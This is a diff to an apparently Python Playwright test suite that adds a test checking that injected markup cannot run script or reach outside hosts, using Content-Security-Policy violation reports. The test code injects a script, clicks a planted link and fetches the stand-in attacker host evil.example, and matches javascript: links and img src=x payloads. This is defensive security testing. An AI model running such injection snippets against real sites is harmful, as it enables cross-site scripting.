@@ -28,6 +28,20 @@ source: {NAME}
 
 Dockers of {NAME} held a strike on 3 May 2024. {BAD} closed the terminal on 7 May 2024.
 """
+SMUGGLE = """async markup => {
+    const blocked = new Set();
+    const note = event => blocked.add(event.effectiveDirective);
+    document.addEventListener("securitypolicyviolation", note);
+    const script = document.createElement("script");
+    script.textContent = "window.hit = 1";
+    const inside = document.createElement("div");
+    inside.innerHTML = markup;
+    document.body.append(script, inside);
+    await fetch("https://evil.example/", {mode: "no-cors"}).catch(() => null);
+    inside.querySelector("a").click();
+    await new Promise(done => setTimeout(done, 300));
+    return [...blocked];
+}"""
 HIT = (
     "window.hit || document.querySelectorAll('img[src=x], a[href^=javascript]').length"
 )
@@ -87,6 +101,17 @@ def test_markup_does_nothing_in_the_saved_page_and_picture(
         assert not alone.evaluate(HIT), path.suffix
         assert [url for url in asked if "evil" in url or url.endswith("/x")] == []
         alone.context.close()
+
+
+def test_a_script_that_got_into_the_page_would_neither_run_nor_reach_anyone(
+    page: Page,
+) -> None:
+    asked = asked_by(page)
+    blocked = page.evaluate(SMUGGLE, BAD)
+    assert not page.evaluate(HIT.partition("||")[0])
+    assert "script-src-elem" in blocked
+    assert "script-src-attr" in blocked
+    assert [url for url in asked if "evil" in url] == []
 
 
 def asked_by(page: Page) -> list[str]:
